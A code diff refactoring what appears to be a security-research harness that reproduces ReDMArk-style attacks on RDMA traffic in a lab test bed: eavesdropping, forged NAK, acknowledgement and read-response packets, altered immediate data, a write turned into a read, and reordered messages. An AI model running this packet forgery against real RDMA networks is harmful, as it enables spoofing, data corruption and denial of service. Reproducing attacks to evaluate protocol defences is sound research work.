@@ -10,10 +10,10 @@ from dataclasses import dataclass
 
 import pyverbs.enums as e
 
-from victims import SECRET, SECRET_AT, WORD_AT
+from victims import ANSWER_AT, SECRET, SECRET_AT, WORD_AT
 from wire import Wire
 
-WRITE_ONLY, READ_REQ, READ_RESP_ONLY, ACK, FETCH_ADD = 0x0A, 0x0C, 0x10, 0x11, 0x14
+WRITE_ONLY, READ_REQ, ACK, FETCH_ADD = 0x0A, 0x0C, 0x11, 0x14
 READ_RESPONSES = range(0x0D, 0x11)
 UC_WRITE_ONLY = 0x2A
 HELLO = 0xC0
@@ -104,6 +104,16 @@ def swallow(bed, side, picks):
     return kept
 
 
+def answer_for_b(bed, opcode, ask, model, **changes):
+    """Has a ask, keeps that from b, and answers it by forgeries of the model. a asks on until
+    the tap is taken away."""
+    held = swallow(bed, FROM_A, lambda s: s.opcode == opcode)
+    ask()
+    bed.wire.until(lambda: held)
+    bed.wire.put(Wire.TO_A, [forged.but(psn=held[0].psn, **changes)
+                             for forged in model.disguises()])
+
+
 @attack("ReDMArk 4; paper 3.1", header="encrypts nothing", packet="encrypts nothing")
 def eavesdrop(bed):
     """Read on the wire what is written and read"""
@@ -162,11 +172,7 @@ def kill_by_a_bad_key(bed):
 def forge_nak(bed):
     """End the connection by an answer, in b's name"""
     _, _, ack, _ = watched(bed)
-    held = swallow(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY)
-    bed.write(GOOD, wait=False)
-    bed.wire.until(lambda: held)
-    bed.wire.put(Wire.TO_A, [forged.but(psn=held[0].psn, ext=aeth(NAK_ACCESS))
-                             for forged in ack.disguises()])
+    answer_for_b(bed, WRITE_ONLY, lambda: bed.write(GOOD, wait=False), ack, ext=aeth(NAK_ACCESS))
     bed.wire.rest()
     bed.wire.tap = None
     return "a's QP is in error" if bed.completed() != [0] else None
@@ -176,11 +182,7 @@ def forge_nak(bed):
 def forge_acknowledgement(bed):
     """Keep a request, and tell a that it was done"""
     _, _, ack, _ = watched(bed)
-    held = swallow(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY)
-    bed.write(NEW, wait=False)
-    bed.wire.until(lambda: held)
-    bed.wire.put(Wire.TO_A, [forged.but(psn=held[0].psn, ext=aeth(ACKED, 3))
-                             for forged in ack.disguises()])
+    answer_for_b(bed, WRITE_ONLY, lambda: bed.write(NEW, wait=False), ack, ext=aeth(ACKED, 3))
     done = bed.completed(limit=0.1) == [0]
     bed.wire.tap = None
     if done:
@@ -193,16 +195,13 @@ def forge_acknowledgement(bed):
 def forge_what_is_read(bed):
     """Answer a READ in b's place"""
     _, _, _, answer = watched(bed)
-    held = swallow(bed, FROM_A, lambda s: s.opcode == READ_REQ)
-    bed.read(wait=False)
-    bed.wire.until(lambda: held)
-    bed.wire.put(Wire.TO_A, [forged.but(psn=held[0].psn, payload=FORGED, ext=aeth(ACKED, 3))
-                             for forged in answer.disguises()])
+    answer_for_b(bed, READ_REQ, lambda: bed.read(wait=False), answer, payload=FORGED,
+                 ext=aeth(ACKED, 3))
     done = bed.completed(limit=0.1) == [0]
     bed.wire.tap = None
     if not done:
         bed.completed()
-    return "a took it" if bed.a.mr.read(len(FORGED), 4096) == FORGED else None
+    return "a took it" if bed.a.mr.read(len(FORGED), ANSWER_AT) == FORGED else None
 
 
 @attack("paper 3.3; NVMe-oF capsule spoofing", header="does not cover the payload")
@@ -259,7 +258,7 @@ def alter_immediate_data(bed):
     bed.send(GOOD, imm=0x01020304)
     assert changed
     got = bed.received(bed.b)
-    return "b was told something else" if got and got[0][2] in (0x66666666,) else None
+    return "b was told something else" if got and got[0][2] == 0x66666666 else None
 
 
 @attack("srdma.md 2.3 (UDP length)")
@@ -280,7 +279,6 @@ def turn_a_write_into_a_read(bed):
     since = len(bed.wire.seen)
     changed = once(bed, FROM_A, lambda s: s.opcode == WRITE_ONLY,
                    lambda s: [s.but(opcode=READ_REQ, payload=b"")])
-    bed.a.mr.write(GOOD, len(GOOD), 0)
     bed.write(GOOD, at=SECRET_AT, wait=False)
     bed.wire.rest(0.3)
     bed.completed()
@@ -292,7 +290,6 @@ def turn_a_write_into_a_read(bed):
 def change_the_order(bed):
     """Exchange the places of two messages"""
     bed.b.expect(2)
-    first, second = GOOD, NEW
     kept = []
 
     def tap(side, shot):
@@ -306,12 +303,12 @@ def change_the_order(bed):
         return [two.but(psn=one.psn, ackreq=one.header.ackreq),
                 one.but(psn=two.psn, ackreq=two.header.ackreq)]
     bed.wire.tap = tap
-    bed.send(first, at=0, wait=False)
-    bed.send(second, at=64, wait=False)
+    bed.send(GOOD, at=0, wait=False)
+    bed.send(NEW, at=64, wait=False)
     bed.completed(2)
     assert len(kept) == 2
     got = [row[1] for row in bed.received(bed.b, 2)]
-    return "b got the second first" if got == [second, first] else None
+    return "b got the second first" if got == [NEW, GOOD] else None
 
 
 @attack("srdma.md 3 (splice)")
